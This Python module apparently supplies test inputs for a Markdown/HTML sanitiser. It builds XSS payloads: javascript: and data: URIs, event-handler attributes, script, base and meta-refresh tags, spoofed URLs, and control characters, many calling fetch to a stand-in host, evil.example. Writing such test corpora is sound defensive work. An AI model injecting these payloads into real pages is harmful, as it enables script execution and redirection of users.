"""Two hundred strings that want to be more than text: what they try, with one address that nobody may ask."""

import itertools

EVIL = "evil.example"
SCRIPT = "window.pwned=1;fetch('//evil.example/')"
ADDRESSES = (
    f"https://{EVIL}/a",
    f"//{EVIL}/b",
    f"http:{EVIL}/c",
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"/>",
    f"vbscript:{SCRIPT}",
    f"https://help.example@{EVIL}/d",
    f"https://еvil.example.{EVIL}/e",
    f"\u200bhttps://{EVIL}/f",
)
FORMS = (
    "[click here]({0})",
    "![picture]({0})",
    "[click][ref]\n[ref]: {0}",
    "![picture][ref]\n[ref]: {0}",
    "<{0}>",
    "{0}",
    "[![both]({0})]({0})",
    "<a href='{0}'>link</a>",
    "<img src='{0}'>",
    '<img src=x onerror="{0}">',
    "<iframe src='{0}'></iframe>",
    "<svg><image href='{0}'/><script href='{0}'/></svg>",
    "**[bold]({0})** `[code]({0})`",
    "1. [step]({0})",
    "> <b onmouseover='{0}'>quote</b>",
)
ODD = (
    f"<script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"<style>@import '//{EVIL}/x.css'</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f"${{{SCRIPT}}} {{{{{SCRIPT}}}}} <%= {SCRIPT} %>",
    f"<details open ontoggle={SCRIPT}>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<object data=//{EVIL}/x></object><embed src=//{EVIL}/y>",
    f"<template><script>{SCRIPT}</script></template>",
    "\u202egnp.exe\u202c turned around",
    "z\u200be\u200br\u200bo\ufeff width",
    "[1](javascript:window.pwned=1) [2] [99999]",
    "**" * 60 + "`" * 60 + "[" * 60,
    "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | ![x](//evil.example/t) |",
    "```\n<script>window.pwned=1</script>\n```",
    "<!--?lit$123456789$--><!--lit-part-->",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u0000\u0007\u001b[31mred",
)
STRINGS = (*(form.format(address) for form, address in itertools.product(FORMS, ADDRESSES)), *ODD)
TITLE = f"Zebra <img src=x onerror=window.pwned=1> ![x](https://{EVIL}/t)"
STEPS = "How to paint a zebra.\n\n1. Open **Zebra**.\n2. Choose **Paint**."
ARTICLE = "\n\n".join((f"# {TITLE}", STEPS, *STRINGS[::6])) + "\n"
